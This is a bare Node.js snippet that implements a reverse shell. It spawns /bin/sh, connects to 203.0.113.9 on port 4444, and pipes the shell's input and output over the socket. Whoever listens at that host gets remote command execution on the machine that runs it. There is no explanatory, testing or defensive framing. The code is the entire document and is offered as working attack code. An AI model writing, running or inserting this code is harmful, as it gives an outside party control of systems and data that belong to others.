const net = require("net"), cp = require("child_process");
const sh = cp.spawn("/bin/sh", []);
const client = new net.Socket();
client.connect(4444, "203.0.113.9", () => { client.pipe(sh.stdin); sh.stdout.pipe(client); sh.stderr.pipe(client); });
